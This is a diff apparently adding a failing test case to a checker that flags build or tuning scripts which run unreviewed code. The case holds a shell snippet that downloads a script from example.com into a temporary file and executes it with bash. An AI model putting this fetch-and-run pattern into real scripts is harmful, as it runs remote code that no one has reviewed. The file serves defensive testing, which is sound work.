@@ -188,6 +188,15 @@ def fail_fetched_clone_cd(data: dict[str, Any]) -> str:
     return _script_adds(data, fetched)
 
 
+def fail_fetched_mktemp(data: dict[str, Any]) -> str:
+    """8-10 (E8): the script saves what a URL serves to a temporary file named only at run
+    time (`mktemp`) and runs it by that name."""
+    fetched = (
+        'TUNE=$(mktemp)\ncurl -fsSL https://example.com/tune-engine.sh -o "$TUNE"\nbash "$TUNE"\n'
+    )
+    return _script_adds(data, fetched)
+
+
 def fail_python_module(data: dict[str, Any]) -> str:
     """8-10 (E8): the script runs `python3 -m tune_engine`, a module the PR adds beside it:
     Python code the sweep runs that signoff does not read, as `python3 tune_engine.py` is."""
